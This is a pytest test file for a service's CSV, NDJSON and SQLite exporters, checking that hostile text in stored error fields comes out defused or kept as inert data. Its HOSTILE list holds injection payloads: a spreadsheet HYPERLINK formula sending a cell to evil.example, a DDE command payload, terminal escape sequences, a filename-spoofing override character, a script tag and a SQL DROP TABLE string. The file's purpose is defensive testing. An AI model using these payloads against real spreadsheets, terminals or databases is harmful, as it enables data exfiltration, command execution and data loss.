"""Hostile text comes out inert in every format: it is kept as it is where that is harmless, and defused elsewhere."""

from __future__ import annotations

import csv
import io
import json
import re
from contextlib import closing
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from service.csv_text import cell as inert
from service.csv_text import csv_part
from service.export.flat_files import ndjson_part
from service.store import Store
from service.store.connections import sqlite3
from service.store.schema import events
from service.text import UNSAFE
from tests.export.conftest import Export, fill, ndjson

# As they may stand in a field of a payload and be quoted in an error.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
    "|calc",
    "%0A=1",
    "a\n=1+1",
    "a\r\n=1",
    "\x1b]0;owned\x07\x1b[31mred",
    "\x9b31m",
    "\u202egnp.exe",
    "zero\u200bwidth",
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    '"quoted", and; separated',
    "null",
    "💥" * 3,
)
_FORMULA = re.compile(r"\s*[=+\-@|%\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_is_neither_a_formula_nor_an_order_to_a_terminal(text: str) -> None:
    cell = inert(text)
    assert isinstance(cell, str)
    assert not _FORMULA.match(cell)
    assert not UNSAFE.search(cell)


PARTS = st.lists(
    st.tuples(st.integers(), st.none() | st.text() | st.sampled_from((*HOSTILE, "a,b", 'a "b"', ""))),
    min_size=1,
    max_size=5,
)


@given(PARTS)
def test_looking_at_whole_columns_gives_what_looking_at_each_cell_gives(part: list[tuple[int, str | None]]) -> None:
    told = io.StringIO()
    csv.writer(told).writerows((number, inert(text)) for number, text in part)
    assert csv_part(part, [1]) == told.getvalue()


@given(PARTS)
def test_lines_of_json_are_those_of_an_encoder(part: list[tuple[int, str | None]]) -> None:
    encode = json.JSONEncoder(separators=(",", ":")).encode
    lines = [encode({"number": number, 'a "name"': text}) + "\n" for number, text in part]
    assert ndjson_part(["number", 'a "name"'], part) == "".join(lines)


def test_whatever_is_unsafe_is_not_printable() -> None:
    assert [c for c in map(chr, range(0x110000)) if UNSAFE.match(c) and c.isprintable()] == []


@pytest.fixture
def hostile(store: Store) -> Store:
    """A store whose errors are the hostile texts, as far as a database takes them."""
    fill(store, len(HOSTILE))
    with store.write() as connection:
        for number, text in enumerate(HOSTILE, 1):
            kept = sa.update(events).where(events.c.id == number).values(error=text, result="failed")
            connection.execute(kept)
    return store


def test_csv(hostile: Store, export: Export) -> None:
    file = export("csv", "events") / "events.csv"
    with file.open(newline="", encoding="utf-8") as opened:
        found = [row["error"] for row in csv.DictReader(opened)]
    assert found == [inert(text) for text in HOSTILE]
    assert not UNSAFE.search(re.sub("[\r\n]", "", file.read_text("utf-8")))


def test_ndjson_is_ascii_and_says_what_was_kept(hostile: Store, export: Export) -> None:
    file = export("ndjson", "events") / "events.ndjson"
    assert file.read_bytes().isascii()
    assert not UNSAFE.search(file.read_text("ascii").replace("\n", ""))
    assert [row["error"] for row in ndjson(file)] == list(HOSTILE)


def test_sqlite_keeps_it_as_text_and_its_views_and_search_go_on(hostile: Store, export: Export) -> None:
    directory = export("sqlite")
    with closing(sqlite3.connect(directory / "copydesk.sqlite")) as connection:
        found = [error for (error,) in connection.execute("SELECT error FROM events ORDER BY id")]
        assert found == list(HOSTILE)
        assert connection.execute("SELECT count(*) FROM errors").fetchone() == (len(HOSTILE),)
        searched = "SELECT rowid FROM events_fts WHERE events_fts MATCH ?"
        assert connection.execute(searched, ('"script"',)).fetchall() == [
            (HOSTILE.index("<script>alert(1)</script>") + 1,)
        ]
    assert isinstance(json.loads((directory / "metadata.json").read_text("ascii")), dict)


def test_a_hostile_filter_is_a_value_and_nothing_else(store: Store, export: Export, tmp_path: Path) -> None:
    fill(store, 1)
    for text in HOSTILE:
        directory = export("ndjson", "events", filters={"topic": text})
        assert ndjson(directory / "events.ndjson") == []
        assert (directory / "manifest.json").read_bytes().isascii()
